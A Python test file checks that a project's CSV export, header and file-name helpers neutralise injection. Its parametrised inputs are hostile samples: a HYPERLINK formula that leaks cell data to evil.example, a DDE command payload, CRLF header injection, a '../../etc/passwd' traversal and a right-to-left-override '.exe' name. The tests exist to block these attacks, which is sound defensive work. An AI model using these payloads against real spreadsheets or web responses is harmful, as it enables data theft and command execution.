"""What people typed does nothing in spreadsheets, file names and headers."""

from __future__ import annotations

import csv
import io

import pytest

from followthrough.core.csv_download import csv_download, neutral_cell
from followthrough.core.headers import content_disposition, header_line

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")', "+1", "-1+cmd", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1",
    " =1", "\u00a0=1", "\u200b=1", "\ufeff@x", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", " \uff1d1", "\u22121", "\x00=1", "\x01=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_runs_nothing(text: str) -> None:
    answer = csv_download("list.csv", head=["name", text], rows=[[text, 3]])
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode(), newline="")) for cell in row]
    assert cells == ["name", f"'{text}", f"'{text}", "3"]


@pytest.mark.parametrize("value", ["Sana = well", "a-b", "", "ACT-1", "12 min", -4, 2.5])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert neutral_cell(value) == value


def test_a_header_is_one_line() -> None:
    assert header_line("INC-1: a\r\nBcc: x@example.org\u2028b\x00") == "INC-1: a Bcc: x@example.org b"


@pytest.mark.parametrize(
    "name", ['a"; x="b.png', "../../etc/passwd", "a\r\nSet-Cookie: x.png", "\u202egnp.exe", "", "..."]
)
def test_a_file_name_is_only_a_name(name: str) -> None:
    said = content_disposition(name)
    assert said.startswith("attachment; filename")
    assert not set(said) & {"\r", "\n", "\u202e"}
    assert "/" not in said
    assert said.count('"') <= 2
